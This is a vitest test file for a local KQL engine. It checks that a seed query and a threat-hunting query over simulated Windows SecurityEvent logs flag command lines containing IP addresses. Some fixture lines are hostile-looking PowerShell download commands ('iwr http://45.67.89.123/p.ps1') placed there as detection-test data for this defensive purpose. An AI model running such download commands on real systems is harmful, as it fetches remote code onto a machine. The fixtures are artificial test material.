import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { createKqlEngine } from '../../../local/kql/createKqlEngine.js';
import { parseTableRows } from '../../../local/tables/parseTableRows.js';
import type { KqlEngine, KqlResultTable } from '../../../local/kql/kqlTypes.js';

const seedQuery = readFileSync(new URL('../../../queries/seed.kql', import.meta.url), 'utf8');
const huntQuery = readFileSync(new URL('../../../queries/hunt.kql', import.meta.url), 'utf8');

// The seed's documented regex vectors (ping 8.8.8.8, http://…/, host:port, …), one event each, plus a line seen on two hosts and rows other filters drop.
const FIXTURE = [
  { t: '2024-05-01T08:00:00Z', host: 'WS01', account: 'CONTOSO\\alice', process: 'cmd.exe', line: 'ping 8.8.8.8' },
  { t: '2024-05-01T08:10:00Z', host: 'WS01', account: 'CONTOSO\\alice', process: 'cmd.exe', line: 'ping 8.8.8.81 -n 1' },
  { t: '2024-05-01T08:20:00Z', host: 'WS01', account: 'CONTOSO\\alice', process: 'cmd.exe', line: 'ping 10.20.30.40 -n 1' },
  { t: '2024-05-01T08:30:00Z', host: 'WS04', account: 'CONTOSO\\dave', process: 'powershell.exe', line: 'iwr http://45.67.89.123/p.ps1' },
  { t: '2024-05-01T08:40:00Z', host: 'WS04', account: 'CONTOSO\\dave', process: 'cmd.exe', line: 'curl 93.184.216.34:443' },
  { t: '2024-05-01T08:50:00Z', host: 'WS05', account: 'CONTOSO\\erin', process: 'PowerShell_ISE.exe', line: 'x 198.51.100.23 y' },
  { t: '2024-05-01T09:00:00Z', host: 'WS05', account: 'CONTOSO\\erin', process: 'cmd.exe', line: 'a 300.1.1.1 b' },
  { t: '2024-05-01T11:00:00Z', host: 'WS02', account: 'CONTOSO\\bob', process: 'powershell.exe', line: 'powershell -c iwr 45.67.89.123 -o x' },
  { t: '2024-05-01T12:00:00Z', host: 'WS03', account: 'CONTOSO\\carol', process: 'powershell.exe', line: 'powershell -c iwr 45.67.89.123 -o x' },
  { t: '2024-05-01T12:30:00Z', host: 'WS06', account: 'CONTOSO\\frank', process: 'notepad.exe', line: 'notepad 45.67.89.124 x' },
  { t: '2024-05-01T12:40:00Z', host: 'WS06', account: 'CONTOSO\\frank', process: 'cmd.exe', line: 'cmd 45.67.89.125 x', eventId: 4624 },
];

let engine: KqlEngine;

beforeAll(() => {
  const rows = FIXTURE.map((f) => ({
    TimeGenerated: f.t,
    EventID: f.eventId ?? 4688,
    Computer: f.host,
    Account: f.account,
    Process: f.process,
    CommandLine: f.line,
  }));
  engine = createKqlEngine({ tables: { SecurityEvent: parseTableRows('SecurityEvent', JSON.stringify(rows)) } });
});

/** Rows as objects keyed by column name, for readable assertions. */
function records(table: KqlResultTable): Record<string, unknown>[] {
  return table.rows.map((row) => Object.fromEntries(table.columns.map((c, i) => [c.name, row[i]])));
}

describe('the seed query, exactly as written', () => {
  it('returns the documented columns and rows (documented regex vectors)', () => {
    const result = engine.run(seedQuery).tables[0]!;
    expect(result.columns).toEqual([
      { name: 'Host_count', type: 'long' },
      { name: 'IP', type: 'string' },
      { name: 'Process', type: 'string' },
      { name: 'CommandLine', type: 'string' },
      { name: 'FirstSeen', type: 'datetime' },
      { name: 'LastSeen', type: 'datetime' },
      { name: 'Hosts', type: 'dynamic' },
      { name: 'Accounts', type: 'dynamic' },
    ]);
    const rows = records(result);
    // Sorted by Host_count desc; ties (the two single-host rows) have no specified order.
    expect(rows[0]).toEqual({
      Host_count: 2,
      IP: '45.67.89.123',
      Process: 'powershell.exe',
      CommandLine: 'powershell -c iwr 45.67.89.123 -o x',
      FirstSeen: new Date('2024-05-01T11:00:00Z'),
      LastSeen: new Date('2024-05-01T12:00:00Z'),
      Hosts: ['WS02', 'WS03'],
      Accounts: ['CONTOSO\\bob', 'CONTOSO\\carol'],
    });
    expect(rows.slice(1).sort((a, b) => String(a.IP).localeCompare(String(b.IP)))).toEqual([
      {
        Host_count: 1,
        IP: '198.51.100.23',
        Process: 'PowerShell_ISE.exe',
        CommandLine: 'x 198.51.100.23 y',
        FirstSeen: new Date('2024-05-01T08:50:00Z'),
        LastSeen: new Date('2024-05-01T08:50:00Z'),
        Hosts: ['WS05'],
        Accounts: ['CONTOSO\\erin'],
      },
      {
        Host_count: 1,
        IP: '8.8.8.81',
        Process: 'cmd.exe',
        CommandLine: 'ping 8.8.8.81 -n 1',
        FirstSeen: new Date('2024-05-01T08:10:00Z'),
        LastSeen: new Date('2024-05-01T08:10:00Z'),
        Hosts: ['WS01'],
        Accounts: ['CONTOSO\\alice'],
      },
    ]);
  });

  it('returns no rows but the same columns over an empty table', () => {
    const empty = createKqlEngine({ tables: { SecurityEvent: parseTableRows('SecurityEvent', '') } });
    const result = empty.run(seedQuery).tables[0]!;
    expect(result.rows).toEqual([]);
    expect(result.columns).toHaveLength(8);
  });
});

describe("the project's hunting query, exactly as written", () => {
  it('keeps the URL and host:port lines the seed drops, one row per command line and process', () => {
    const result = engine.run(huntQuery).tables[0]!;
    expect(result.columns.map((c) => `${c.name}:${c.type}`)).toEqual([
      'Host_count:long',
      'IP:string',
      'Process:string',
      'CommandLine:string',
      'FirstSeen:datetime',
      'LastSeen:datetime',
      'Hosts:dynamic',
      'Accounts:dynamic',
      'EventCount:long',
      'HuntSource:string',
      'HostIds:dynamic',
      'AccountSids:dynamic',
    ]);
    const byLine = new Map(records(result).map((r) => [r.CommandLine, r]));
    expect(byLine.get('iwr http://45.67.89.123/p.ps1')).toMatchObject({ IP: '45.67.89.123', Host_count: 1, EventCount: 1 });
    expect(byLine.get('curl 93.184.216.34:443')).toMatchObject({ IP: '93.184.216.34' });
    expect(byLine.get('powershell -c iwr 45.67.89.123 -o x')).toMatchObject({ Host_count: 2, EventCount: 2 });
    // PowerShell_ISE.exe matches in~ case-insensitively; notepad.exe is not hunted; 4624 is not a process creation.
    expect([...byLine.keys()]).toContain('x 198.51.100.23 y');
    expect([...byLine.keys()]).not.toContain('notepad 45.67.89.124 x');
    expect([...byLine.keys()]).not.toContain('cmd 45.67.89.125 x');
    expect(result.rows[0]![0]).toBe(2);
  });
});
